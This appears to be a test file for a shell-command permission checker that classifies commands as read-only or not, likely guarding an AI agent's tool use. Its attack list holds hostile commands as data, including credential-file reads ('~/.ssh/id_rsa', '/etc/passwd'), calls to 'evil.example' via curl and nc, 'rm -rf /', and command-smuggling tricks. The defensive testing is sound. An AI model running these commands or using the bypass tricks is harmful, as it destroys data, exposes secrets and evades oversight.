import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { realSurroundings } from '../../../../src/permissions/places.ts';
import { examineCommand } from '../../../../src/permissions/shell/examine-command.ts';
import { loadShellParser } from '../../../../src/permissions/shell/shell-parser.ts';
import { startCpuClock } from '../../../helpers/cpu-clock.ts';

let root: string;
let workspace: string;

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'corpus-')));
  workspace = join(root, 'ws');
  mkdirSync(join(workspace, 'src'), { recursive: true });
  mkdirSync(join(workspace, 'a'));
  mkdirSync(join(workspace, 'b'));
  writeFileSync(join(workspace, 'src/a.ts'), 'x');
  writeFileSync(join(root, 'secret'), 'x');
  symlinkSync(join(root, 'secret'), join(workspace, 'link'));
  symlinkSync(root, join(workspace, 'up'));
});
afterAll(() => {
  rmSync(root, { recursive: true, force: true });
});

async function effectOf(command: string): Promise<string> {
  const parse = await loadShellParser();
  const around = realSurroundings({ workspace, home: join(root, 'home'), own: [], readable: [] });
  return (await examineCommand(command, { cwd: workspace, around, rules: [], parse })).facts.effect;
}

const ORDINARY = String.raw`
ls
ls -la
ls -la src
ls -l --color=never src/a.ts
cat src/a.ts
cat -n "src/a.ts"
cat 'src/a.ts' package.json
head -20 src/a.ts
head -n 20 src/a.ts
tail -n +5 src/a.ts
tail -c 100 src/a.ts
wc -l src/a.ts
pwd
echo hello world
echo "it's fine"
echo -n x
printf '%s\n' a b
printf "%5d %x\n" 1 2
true
false
stat -c %s src/a.ts
file src/a.ts
basename a/b.ts .ts
dirname a/b.ts
realpath src
readlink -f src
uname -a
whoami
id -un
date
date -u +%Y-%m-%d
date -d yesterday +%s
nl src/a.ts
cut -d: -f1 src/a.ts
cat src/a.ts | tr a-z A-Z
uniq -c src/a.ts
comm -12 src/a.ts src/b.ts
paste -d, src/a.ts src/b.ts
rev src/a.ts
seq 1 10
diff -u src/a.ts src/b.ts
cmp src/a.ts src/b.ts
grep foo src/a.ts
grep -rn "foo bar" src
grep -rnE 'foo|bar' --include='*.ts' src
grep -e '-foo' src/a.ts
grep -A3 -B 2 foo src/a.ts
grep /etc/passwd src/a.ts
rg foo
rg -n "foo bar" src
rg -i foo -g '*.ts'
rg --files src
find . -name '*.ts'
find src -type f -maxdepth 2
find . -name "*.md" -not -path './x/*' -print0
find . \( -name a -o -name b \) -print
sed -n 1,20p src/a.ts
sed -n '5p' src/a.ts
jq . package.json
jq -r '.scripts.test' package.json
jq '.dependencies | keys' package.json
du -sh src
du -d 1 .
df -h
tree -L 2 src
ls && pwd
ls; pwd
ls || true
cat src/a.ts | grep foo | head -5
ls src 2>/dev/null
ls src 2>&1
ls src >/dev/null
ls \
  -la
ls # a comment
cat ./src/a.ts
grep -c foo -- src/a.ts
`;

const OF_GIT =
  'git status,git status --short,git diff,git diff HEAD~1 -- src,git log --oneline -5,git show HEAD:src/a.ts'.split(
    ',',
  );

// biome-ignore lint/complexity/noUselessStringRaw: the lines are shell, read as they stand
const ATTACKS = String.raw`
git -c core.pager=x log
git -c alias.x=!id x
git -C /tmp status
git --git-dir=/tmp/x status
git status; id
git diff --output=x
git diff --no-index /etc/passwd /dev/null
git diff --ext-diff
git show --output=x
git log -O/etc/passwd
git config core.pager id
git push
git fetch ext::sh
git status | sh
ping -c1 evil.example
dig evil.example
nslookup evil.example
curl evil.example
wget evil.example
nc evil.example 1
node -e 1
python3 -c 1
perl -e 1
ruby -e 1
awk 'BEGIN{system("id")}'
awk '{print}' src/a.ts
xargs id
ls | xargs rm
env
env id
printenv
sh -c id
bash -c ls
sudo ls
nice ls
nohup ls
time ls
timeout 1 ls
command ls
builtin echo x
exec ls
eval ls
source src/a.ts
. src/a.ts
tee x
ls | tee x
sort src/a.ts
sort -o x src/a.ts
sort --compress-program=id src/a.ts
less src/a.ts
more src/a.ts
man ls
vi src/a.ts
npx x
npm test
yarn dlx x
make
go test -exec id
base64 -o x src/a.ts
tar cf x --checkpoint-action=exec=id src
fd -x id
rg --pre id foo
rg --pre=id foo
rg --hostname-bin id foo
rg -z foo
rg --search-zip foo
rg -L foo
rg --follow foo
rg -f /etc/passwd src
rg --file=/etc/passwd src
rg --ignore-file /etc/passwd foo
rg --files /etc
rg foo /etc
rg -e foo /etc
rg --pr id foo
grep -f /etc/passwd src/a.ts
grep -R foo .
grep -r foo /etc
grep --file=/etc/passwd src
grep -e foo /etc/passwd
grep --fil=/etc/passwd src
grep foo link
find . -exec id ;
find . -exec rm {} +
find . -execdir id ;
find . -ok id ;
find . -okdir id ;
find . -delete
find . -fls x
find . -fprint x
find . -fprint0 x
find . -fprintf x y
find -L . -name x
find -H link
find / -name x
find .. -name x
find up -name x
find . -files0-from x
find . -name x -newerXY y
find . -name
sed -i s/a/b/ src/a.ts
sed 's/a/b/w x' src/a.ts
sed 's/a/id/e' src/a.ts
sed -n 'w x' src/a.ts
sed -n '1e id' src/a.ts
sed -n 1p -i src/a.ts
sed -n 1,5p /etc/passwd
sed --expression=e src/a.ts
jq -f x .
jq --from-file x .
jq env package.json
jq '$ENV' package.json
jq 'env.HOME' package.json
jq -L /tmp . package.json
jq --rawfile a /etc/passwd . package.json
jq --slurpfile a /etc/passwd . package.json
jq 'import "a" as a; .' package.json
jq . /etc/passwd
printf -v x y
printf '%n' x
printf '%*d' 1 2
printf '%(%s)T' -1
printf -- x
echo -e x
echo -ne x
date -s 2020-01-01
date --set=2020-01-01
date 0101000020
date -f /etc/passwd
date -r /etc/passwd
uniq src/a.ts x
file -C
file -m x src/a.ts
file -f /etc/passwd
file -z src/a.ts
tree -o x
tree -R
tree -l
tree --fromfile /etc/passwd
wc --files0-from=/etc/passwd
du --files0-from=/etc/passwd
du -L .
ls -lH link
ls -L link
diff a b
diff --to-file=/etc/passwd src/a.ts
diff -r a b
tail -f src/a.ts
tail --follow src/a.ts
cat /etc/passwd
cat ../secret
cat ~/.ssh/id_rsa
cat ~root/x
cat ~/x
cat link
cat up/secret
cat src/../../secret
cat src/nothing/../../../secret
cat "$HOME/x"
cat $HOME/x
cat ${'$'}{root}
cat $(echo x)
cat $(id)
cat ${'`'}id${'`'}
cat "$(id)"
cat <(id)
cat >(id)
cat < /etc/passwd
cat < src/a.ts
cat <<< x
cat << E
ls > x
ls >> x
ls >| x
ls &> x
ls &>> x
ls 2> x
ls >&2x
ls > /dev/null2
ls 3>&1
ls 1<>x
> x
ls > "/dev/sda"
ls &
ls & id
ls |& cat
! ls
time ls
a=1 ls
a=1
PATH=. ls
LD_PRELOAD=./x ls
BASH_ENV=x ls
IFS=x ls
ls$IFS-la
'ls'x
"ls"x y; id
$x
*
./ls
/tmp/ls
../ls
src/a.ts
ls *
cat *.ts
cat src/?.ts
cat src/[a].ts
cat {a,b}
cat src/{a,b}.ts
echo {1..9}
cat $'src/a.ts'
cat $"src/a.ts"
echo $[ 1 ]
echo $((1))
echo $((a[$(id)]))
echo $[ x='a[$(id)]', x ]
[[ a == a ]]
[ -f x ]
test -v 'a[$(id)]'
(ls)
{ ls; }
if true; then ls; fi
for i in 1; do ls; done
while true; do ls; done
case x in x) ls;; esac
f() { ls; }; f
function ls { id; }; ls
coproc ls
select x in 1; do ls; done
trap id EXIT
alias ls=id
unalias ls
set -x
shopt -s expand_aliases
export X=1
declare X=1
local X=1
readonly X=1
typeset X
let x=1
unset PATH
read x
mapfile x
cd /
cd src && ls
pushd src
umask 0
ulimit -c 0
kill 1
rm x
rm -rf /
mkdir x
touch x
mv a b
cp a b
ln -s a b
chmod 777 a
chown x a
dd if=a of=b
install a b
truncate -s 0 a
"unclosed
'unclosed
ls "unclosed
ls )
ls (
ls (id
cat src/../src/a.ts
ls ;; id
ls && 
ls |
`;

test.each(ORDINARY.trim().split(/\n(?! )/))('lets a person read without a question: %s', async (command) => {
  expect(await effectOf(command)).toBe('reads');
});

test.each(OF_GIT)('knows that git may run programs, and what only reads with it: %s', async (command) => {
  expect(await effectOf(command)).toBe('git_reads');
});

test.each(ATTACKS.trim().split('\n'))('never takes for reading: %s', async (command) => {
  const effect = await effectOf(command);
  expect(['reads', 'git_reads']).not.toContain(effect);
});

test.each([
  ['a NUL', 'cat src/a.ts\0; id'],
  ['a carriage return', 'ls\rid'],
  ['an escape', 'ls \u001b[8m; id'],
  ['a bidirectional control', 'echo \u202e; ls'],
  ['a zero-width space', 'l\u200bs'],
  ['a no-break space', 'ls\u00a0-la'],
  ['an ideographic space', 'ls\u3000-la'],
  ['a line separator', 'ls\u2028id'],
  ['a tag', 'ls \u{e0041}'],
  ['a lone surrogate', 'ls \ud800'],
  ['a here-document', 'cat << E\nx\nE'],
  ['a long line', `echo ${'x'.repeat(30_000)}`],
  ['deep nesting', `echo ${'$('.repeat(5000)}id${')'.repeat(5000)}`],
  ['many back-quotes', `echo ${'`'.repeat(15_000)}`],
  ['many commands with one bad among them', `${'ls;'.repeat(500)}touch x`],
])('has doubts about %s', async (_, command) => {
  const spent_ms = startCpuClock();
  expect(await effectOf(command)).not.toBe('reads');
  expect(spent_ms()).toBeLessThan(2000);
});

test('no reading command stays one when something that runs code is put anywhere into it', async () => {
  const reading = [
    'cat src/a.ts',
    'grep -rn foo src',
    "find . -name '*.ts'",
    'ls -la | head -5',
    'sed -n 1,5p src/a.ts',
  ];
  const planted = [
    '$(touch x)',
    '`touch x`',
    ';touch x;',
    '&&touch x ',
    '|touch x ',
    '\ntouch x\n',
    '&',
    '>x ',
    '<(touch x)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is shell
    '${x[$(touch x)]}',
    ' -exec id ',
    '$[a]',
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...reading), fc.constantFrom(...planted), fc.nat(), async (line, plant, at) => {
      const cut = at % (line.length + 1);
      const command = line.slice(0, cut) + plant + line.slice(cut);
      const isQuoted = (line.slice(0, cut).split("'").length - 1) % 2 === 1;
      const isHarmless = (plant === ' -exec id ' && !line.startsWith('find')) || isQuoted;
      fc.pre(!isHarmless);
      expect(await effectOf(command), command).not.toBe('reads');
    }),
    { numRuns: 400 },
  );
});

test('reads words exactly as bash passes them to a program', async () => {
  const parse = await loadShellParser();
  const piece = fc.oneof(
    fc.stringMatching(/^[a-zA-Z0-9_./:=,@%+~*?-]{0,6}$/),
    fc.stringMatching(/^[ -&(-~]{0,8}$/).map((text) => `'${text}'`),
    fc.stringMatching(/^[ !#%-_a-~]{0,8}$/).map((text) => `"${text}"`),
    fc.stringMatching(/^[ -~]$/).map((character) => `\\${character}`),
  );
  const word = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join(''));
  let compared = 0;
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), (words) => {
      const { commands, doubts } = parse(`printf '%s\\0' ${words.join(' ')}`);
      const given = commands[0]?.words.slice(2) ?? [];
      if (doubts.length > 0 || commands.length !== 1 || given.length === 0) return;
      compared += 1;
      const command = `cd /nowhere 2>/dev/null; set -f; printf '%s\\0' ${words.join(' ')}`;
      const { stdout } = spawnSync('bash', ['--norc', '-c', command], { encoding: 'utf8', env: { HOME: '/home/me' } });
      expect(given.map(({ value }) => value)).toEqual(stdout.split('\0').slice(0, -1));
    }),
    { numRuns: 250 },
  );
  expect(compared).toBeGreaterThan(40);
});
